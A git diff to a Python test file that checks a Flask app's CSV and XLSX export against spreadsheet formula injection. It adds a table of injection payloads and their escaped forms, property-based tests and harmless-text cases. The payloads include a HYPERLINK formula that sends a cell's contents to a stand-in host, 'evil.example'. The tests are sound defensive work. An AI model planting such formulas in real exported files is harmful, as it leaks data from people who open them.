@@ -8,6 +8,8 @@ from xml.etree import ElementTree
 
 import pytest
 from flask import Flask
+from hypothesis import given
+from hypothesis import strategies as st
 
 from plural import tables
 from plural.extensions import db
@@ -19,7 +21,38 @@ from tests.plural.panels import Panel
 from tests.visitor import Visitor
 
 SPREADSHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
-EVIL = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1"]
+FORMULA = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
+# What it takes to make them harmless, by value.
+EVIL = {
+    "=1+1": "'=1+1",
+    "+1": "'+1",
+    "-1": "'-1",
+    "@SUM(A1)": "'@SUM(A1)",
+    "\t=1": "'\t'=1",
+    "\r=1": "'\r'=1",
+    "\n=1": "'\n'=1",
+    "  =1": "'  =1",
+    "＝1": "'＝1",
+    "Sea;=1+1;end": "Sea;'=1+1;end",
+    'Sea, blue;=HYPERLINK("https://evil.example?"&A1)': (
+        'Sea, blue;\'=HYPERLINK("https://evil.example?"&A1)'
+    ),
+    'Sea;"=1+1"': 'Sea;\'"=1+1"',
+    'Sea; "@SUM(A1)': "Sea;' \"@SUM(A1)",
+    "Sea\t+1": "Sea\t'+1",
+    "Sea\n-1": "Sea\n'-1",
+    "Sea\r\n＝1": "Sea\r\n'＝1",
+    ";;=1": ";;'=1",
+}
+HARMLESS = [
+    "a; b",
+    "3-2=1",
+    "a;b=c;d",
+    "one\n\ntwo",
+    "e-mail me @ home",
+    "Sea;1-1",
+    "l'été; l'hiver",
+]
 
 
 def read_csv(written: bytes) -> list[list[str]]:
@@ -43,13 +76,37 @@ def read_xlsx(written: bytes) -> tuple[list[list[Any]], str]:
     return found, sheet
 
 
-@pytest.mark.parametrize("text", EVIL)
-def test_formula_injection_in_csv(text: str) -> None:
-    [[cell]] = read_csv(b"".join(tables.as_csv([[text]])))
-    assert cell == f"'{text}"
+def fields(written: bytes, separator: str) -> list[str]:
+    """All cells that a spreadsheet finds whose list separator is this one."""
+    lines = io.StringIO(written.decode("utf-8-sig"), newline=None)
+    return [cell for row in csv.reader(lines, delimiter=separator) for cell in row]
 
 
-@pytest.mark.parametrize("text", [t for t in EVIL if t.strip() == t])
+@pytest.mark.parametrize(("text", "harmless"), EVIL.items())
+def test_formula_injection_in_csv(text: str, harmless: str) -> None:
+    written = b"".join(tables.as_csv([["2026-1.1", text], [text, "end"]]))
+    assert read_csv(written) == [["2026-1.1", harmless], [harmless, "end"]]
+    for separator in (",", ";", "\t"):
+        for cell in fields(written, separator):
+            assert not cell.lstrip(" ").startswith(FORMULA), (separator, cell)
+
+
+@given(
+    st.lists(st.lists(st.text(";,\t\n\r\" =-'a", max_size=9), min_size=2, max_size=3), max_size=3)
+)
+def test_no_text_is_a_formula_whatever_the_list_separator(rows: list[list[str]]) -> None:
+    written = b"".join(tables.as_csv(rows))
+    for separator in (",", ";", "\t"):
+        for cell in fields(written, separator):
+            assert not cell.lstrip(" ").startswith(FORMULA), (separator, cell)
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_texts_that_no_spreadsheet_computes_stay_as_they_are(text: str) -> None:
+    assert read_csv(b"".join(tables.as_csv([["1", text]]))) == [["1", text]]
+
+
+@pytest.mark.parametrize("text", [t for t in EVIL if t.strip() == t and "\r" not in t])
 def test_formula_injection_in_xlsx(text: str) -> None:
     [[cell]], sheet = read_xlsx(b"".join(tables.as_xlsx([[text]], "Evil")))
     assert cell == text
